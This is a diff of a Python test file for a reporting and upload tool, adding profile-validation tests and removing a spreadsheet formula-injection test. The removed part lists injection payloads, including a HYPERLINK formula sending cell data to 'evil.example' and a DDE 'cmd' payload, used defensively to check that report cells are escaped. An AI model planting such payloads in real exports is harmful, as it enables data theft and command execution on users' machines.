@@ -1,75 +1,161 @@
-"""Bad-input corpus, entry points (issue 10 §6): a profile, a rendered business_date, the monitor's query
-parameters, and ledger text that a spreadsheet would run as a formula.
-
-Same style as ``test_bad_input_corpus.py``: the exact message is asserted, whole-input errors stop before
-anything is sent (``simulator.requests == 0``), and no row is lost from a report.
+"""Bad-input corpus, profiles: a malformed profile, an unusable profile file, and a profile that loads but
+would put the wrong bytes on the wire, each named by its bad key; through ``cdyb-jxc upload`` it exits 2
+before anything is sent. The rules of the corpus are in ``conftest.py``.
 """
 
 from __future__ import annotations
 
 import copy
-import csv
-import io
-import json
+import os
 import subprocess
 import sys
 import tomllib
 from collections.abc import Callable
-from datetime import datetime
 from importlib import resources
 from pathlib import Path
 from typing import Any
 
 import pytest
-from openpyxl import load_workbook
 
 from cdyb_jxc.cli import main as cli_main
 from cdyb_jxc.exceptions import ProfileError
-from cdyb_jxc.ledger import REJECTED, Ledger
-from cdyb_jxc.safety.spreadsheet import FORMULA_STARTS
-from cdyb_jxc.upload.engine import Uploader
-from cdyb_jxc.upload.reports import SOURCE_ISSUE, write_reject_report
-from cdyb_jxc.wire.client import CentreClient
-from cdyb_jxc.wire.profile import PROFILE_ENV_VAR, parse_profile
-from tests.conftest import INSTITUTION, SECRET, USER, outbound_row, write_csv
+from cdyb_jxc.wire.profile import PROFILE_ENV_VAR, load_profile, parse_profile
+from tests.conftest import outbound_row, write_csv
+from tests.integration.reliability.conftest import cli_error_line, conn_env
+
+# ---------------------------------------------------------------------------------------------------------
+# malformed profile
+# ---------------------------------------------------------------------------------------------------------
 
 DEFAULT_TEXT = resources.files("cdyb_jxc").joinpath("data/default_profile.toml").read_text(encoding="utf-8")
 _DEFAULT_RAW = tomllib.loads(DEFAULT_TEXT)
 HOLD = "must hold every GBK character in two bytes (GBK or GB18030)"
+_DROP = object()
 
 
-def _cli_error(err: str) -> str:
-    lines = [line for line in err.splitlines() if line.startswith("cdyb-jxc: ")]
-    assert len(lines) == 1, err
-    return lines[0]
+def _edit(path: str, value: Any = _DROP, *, append: bool = False) -> Callable[[dict[str, Any]], None]:
+    """A profile edit at a dotted path (list items by index): set, drop (no value) or append."""
 
-
-def _conn_env(monkeypatch: pytest.MonkeyPatch, host: str, **extra: Any) -> dict[str, str]:
-    conn = {
-        "conn_type": "cdyb_jxc",
-        "host": host,
-        "login": USER,
-        "password": SECRET,
-        "extra": {"institution_code": INSTITUTION, "environment": "test", "timeout": 3, **extra},
-    }
-    monkeypatch.setenv("AIRFLOW_CONN_CDYB_JXC_DEFAULT", json.dumps(conn))
-    return {"AIRFLOW_CONN_CDYB_JXC_DEFAULT": json.dumps(conn)}
-
-
-# ---------------------------------------------------------------------------------------------------------
-# 1. a profile validated completely at load
-# ---------------------------------------------------------------------------------------------------------
-
-
-def _edit(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
-    def edit(raw: dict[str, Any]) -> None:
+    def apply(raw: dict[str, Any]) -> None:
         *parents, last = path.split(".")
         node: Any = raw
-        for part in parents:
-            node = node[int(part)] if part.isdigit() else node[part]
-        node[int(last) if last.isdigit() else last] = value
+        for key in parents:
+            node = node[int(key)] if isinstance(node, list) else node[key]
+        if append:
+            node[last].append(value)
+        elif value is _DROP:
+            del node[last]
+        else:
+            node[int(last) if isinstance(node, list) else last] = value
 
-    return edit
+    return apply
+
+
+PROFILE_CASES = [
+    pytest.param(
+        _edit("service.batch_limit"), "profile key service.batch_limit is missing", id="missing-batch-limit"
+    ),
+    pytest.param(
+        _edit("service.batch_limit", "100"),
+        "profile key service.batch_limit must be an integer, not '100' (text)",
+        id="batch-limit-is-text",
+    ),
+    pytest.param(
+        _edit("service.batch_limit", 0),
+        "profile key service.batch_limit must be positive",
+        id="batch-limit-zero",
+    ),
+    pytest.param(
+        _edit("reply.retcode", 1),
+        "profile key reply.retcode must be text, not 1 (an integer)",
+        id="reply-tag-not-text",
+    ),
+    pytest.param(_edit("categories.charset"), "profile key categories.charset is missing", id="no-category"),
+    pytest.param(
+        _edit("fields.quantity.type", "X"),
+        "profile key fields.quantity.type must be one of C, N, D, DT, code, not 'X'",
+        id="unknown-field-type",
+    ),
+    pytest.param(
+        _edit("fields.serial_no.length"),
+        "profile key fields.serial_no.length is missing",
+        id="text-field-without-length",
+    ),
+    pytest.param(
+        _edit("fields.quantity.scale", 16),
+        "profile key fields.quantity.scale must be between 0 and precision-1",
+        id="scale-not-below-precision",
+    ),
+    pytest.param(
+        _edit("fields.quantity.min", "abc"),
+        "profile key fields.quantity.min must be a number",
+        id="min-not-a-number",
+    ),
+    pytest.param(
+        _edit("fields.quantity.colour", "red"),
+        "profile key fields.quantity.colour is not a known field setting",
+        id="unknown-field-setting",
+    ),
+    pytest.param(
+        _edit("fields.outbound_type.codes", {}),
+        "profile key fields.outbound_type.codes must map code strings to names",
+        id="empty-code-set",
+    ),
+    pytest.param(
+        _edit("transactions.stock"), "profile key transactions.stock is missing", id="missing-transaction"
+    ),
+    pytest.param(
+        _edit("transactions.outbound.fields.0.required", "maybe"),
+        "profile key transactions.outbound.fields[0].required must be Y, N or C, not 'maybe'",
+        id="bad-required-level",
+    ),
+    pytest.param(
+        _edit("transactions.outbound.fields", {"name": "nonexistent", "required": "N"}, append=True),
+        "profile key transactions.outbound.fields[19].name names an undefined field 'nonexistent'",
+        id="undefined-field-in-transaction",
+    ),
+]
+
+
+@pytest.mark.parametrize(("edit", "message"), PROFILE_CASES)
+def test_malformed_profile_names_the_bad_key(edit, message):
+    raw = copy.deepcopy(_DEFAULT_RAW)
+    edit(raw)
+    with pytest.raises(ProfileError) as info:
+        parse_profile(raw, "custom.toml")
+    assert str(info.value) == message
+
+
+PROFILE_FILE_CASES = [
+    pytest.param(
+        b"[service\nbatch_limit = 100\n",
+        "profile file {path} is not valid TOML: Expected ']' at the end of a table declaration"
+        " (at line 1, column 9)",
+        id="bad-toml",
+    ),
+    pytest.param(
+        "name = '成都'\n".encode("gbk"),
+        "profile file {path} cannot be read as UTF-8: 'utf-8' codec can't decode byte 0xb3 in position 8:"
+        " invalid start byte",
+        id="profile-saved-as-gbk",
+    ),
+    pytest.param(None, "profile file {path} does not exist", id="profile-file-missing"),
+]
+
+
+@pytest.mark.parametrize(("content", "message"), PROFILE_FILE_CASES)
+def test_unusable_profile_file_names_the_file(tmp_path, content, message):
+    path = tmp_path / "profile.toml"
+    if content is not None:
+        path.write_bytes(content)
+    with pytest.raises(ProfileError) as info:
+        load_profile(path)
+    assert str(info.value) == message.format(path=path)
+
+
+# ---------------------------------------------------------------------------------------------------------
+# a profile validated completely at load, also through `cdyb-jxc upload`
+# ---------------------------------------------------------------------------------------------------------
 
 
 ENTRY_PROFILE_CASES = [
@@ -143,7 +229,7 @@ def _profile_file(tmp_path: Path, name: str, text: str) -> Path:
     return path
 
 
-PROFILE_FILE_CASES = [
+CLI_PROFILE_FILE_CASES = [
     pytest.param(
         lambda: DEFAULT_TEXT.replace('inner_encoding = "GBK"', 'inner_encoding = "latin-1"'),
         f"profile key service.inner_encoding {HOLD}, not 'latin-1'",
@@ -194,7 +280,7 @@ PROFILE_FILE_CASES = [
 ]
 
 
-@pytest.mark.parametrize(("text", "message"), PROFILE_FILE_CASES)
+@pytest.mark.parametrize(("text", "message"), CLI_PROFILE_FILE_CASES)
 @pytest.mark.parametrize("named_by", ["env", "extra"])
 def test_cli_with_a_bad_profile_exits_2_before_sending(
     simulator, tmp_path, monkeypatch, capsys, text, message, named_by
@@ -203,10 +289,10 @@ def test_cli_with_a_bad_profile_exits_2_before_sending(
     path = _profile_file(tmp_path, f"bad-{named_by}.toml", text())
     if named_by == "env":
         monkeypatch.setenv(PROFILE_ENV_VAR, str(path))
-        _conn_env(monkeypatch, simulator.url)
+        conn_env(monkeypatch, simulator.url)
     else:
         monkeypatch.delenv(PROFILE_ENV_VAR, raising=False)
-        _conn_env(monkeypatch, simulator.url, profile=str(path))
+        conn_env(monkeypatch, simulator.url, profile=str(path))
     src = write_csv(tmp_path / "out.csv", [outbound_row("CK1")])
     capsys.readouterr()
     code = cli_main(
@@ -215,7 +301,7 @@ def test_cli_with_a_bad_profile_exits_2_before_sending(
     )  # fmt: skip
     _, err = capsys.readouterr()
     assert code == 2
-    assert _cli_error(err) == "cdyb-jxc: " + message.format(path=path)
+    assert cli_error_line(err) == "cdyb-jxc: " + message.format(path=path)
     assert "Traceback" not in err
     assert simulator.requests == 0
 
@@ -225,97 +311,14 @@ def test_cli_process_with_a_latin_1_profile_exits_2(simulator, tmp_path, monkeyp
     path = _profile_file(
         tmp_path, "latin1.toml", DEFAULT_TEXT.replace('inner_encoding = "GBK"', 'inner_encoding = "latin-1"')
     )
-    env = _conn_env(monkeypatch, simulator.url)
+    env = conn_env(monkeypatch, simulator.url)
     src = write_csv(tmp_path / "out.csv", [outbound_row("CK1")])
-    import os
-
     out = subprocess.run(
         [sys.executable, "-m", "cdyb_jxc", "upload", "--transaction", "outbound", "--file", str(src),
          "--ledger", f"sqlite:///{tmp_path / 'ledger.db'}"],
         capture_output=True, text=True, timeout=180, env={**os.environ, **env, PROFILE_ENV_VAR: str(path)},
     )  # fmt: skip
     assert out.returncode == 2, out.stderr
-    assert _cli_error(out.stderr) == f"cdyb-jxc: profile key service.inner_encoding {HOLD}, not 'latin-1'"
+    assert cli_error_line(out.stderr) == f"cdyb-jxc: profile key service.inner_encoding {HOLD}, not 'latin-1'"
     assert "Traceback" not in out.stderr
     assert simulator.requests == 0
-
-
-# ---------------------------------------------------------------------------------------------------------
-# 2. ledger text a spreadsheet would run: every report cell is text, never a formula
-# ---------------------------------------------------------------------------------------------------------
-
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
-DAY = "2026-11-20"
-
-
-def _inserted(text: str, i: int) -> dict[str, Any]:
-    now = datetime(2026, 11, 21, 1, 0)
-    return {
-        "institution_code": INSTITUTION,
-        "serial_no": f"CK-LEDGER-{i}",
-        "transaction_code": "JXC003",
-        "business_date": DAY,
-        "mapping_serial_no": text,
-        "item_name": text,
-        "payload_hash": "0" * 64,
-        "state": REJECTED,
-        "category": text,
-        "field": text,
-        "detail": text,
-        "attempts": 2,
-        "held_back": 0,
-        "first_seen_at": now,
-        "updated_at": now,
-    }
-
-
-def test_reject_report_holds_no_live_formula(profile, simulator, tmp_path):
-    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
-    client = CentreClient(
-        profile, endpoint=simulator.url, user=USER, verification_code=SECRET, institution_code=INSTITUTION
-    )
-    # rejected for real (quantity 0 is held back) with a 流水号 and an item name that start like formulas
-    rows = [
-        outbound_row(f"{text[0]}CK{i}", hospital_item_name=text, quantity="0")
-        for i, text in enumerate(FORMULAS)
-    ]
-    Uploader(
-        profile=profile, txn_key="outbound", institution_code=INSTITUTION, sender=client, ledger=ledger,
-        resend_attempts=0,
-    ).run([[*rows, outbound_row("")]])  # fmt: skip
-    # reasons and fields from a hostile centre, and tab / CR starts, straight into the ledger
-    texts = [*FORMULAS, "\t=1+1", "\r=1+1"]
-    ledger.insert_rows([_inserted(text, i) for i, text in enumerate(texts)])
-    report = write_reject_report(ledger, INSTITUTION, [DAY], tmp_path / "reports", "rejects")
-    serials = {r["serial_no"] for r in rows} | {f"CK-LEDGER-{i}" for i in range(len(texts))}
-    assert report.rows == len(serials) + 1  # and the source issue of the row without 流水号
-
-    with open(report.csv_path, encoding="utf-8-sig", newline="") as fh:
-        records = list(csv.DictReader(fh))
-    for record in records:
-        for column, value in record.items():
-            assert not value.startswith(FORMULA_STARTS), (column, value)
-    shown = {r["流水号 serial_no"] for r in records}
-    assert shown >= {"'" + s for s in serials if s.startswith(FORMULA_STARTS)} | {
-        s for s in serials if s[0] == "C"
-    }
-    assert {r["状态 state"] for r in records} == {REJECTED, SOURCE_ISSUE}
-    assert {r["发送次数 attempts"] for r in records} == {"0", "2"}  # numbers are written as numbers
-
-    book = load_workbook(report.excel_path)
-    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
-    assert [c.coordinate for c in cells if c.data_type == "f"] == []
-    names = {row[4].value for row in book.active.iter_rows(min_row=2)}
-    assert names >= set(texts)  # the exact text, kept as string cells
-    ledger.dispose()
-
-
-def test_csv_report_quotes_a_formula_the_owasp_way(tmp_path):
-    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
-    ledger.insert_rows([_inserted("=1+1", 0)])
-    report = write_reject_report(ledger, INSTITUTION, [DAY], tmp_path, "r")
-    text = report.csv_path.read_text(encoding="utf-8-sig")
-    (row,) = list(csv.reader(io.StringIO(text)))[1:]
-    assert row[0] == "CK-LEDGER-0"
-    assert row[4] == row[7] == "'=1+1"
-    ledger.dispose()
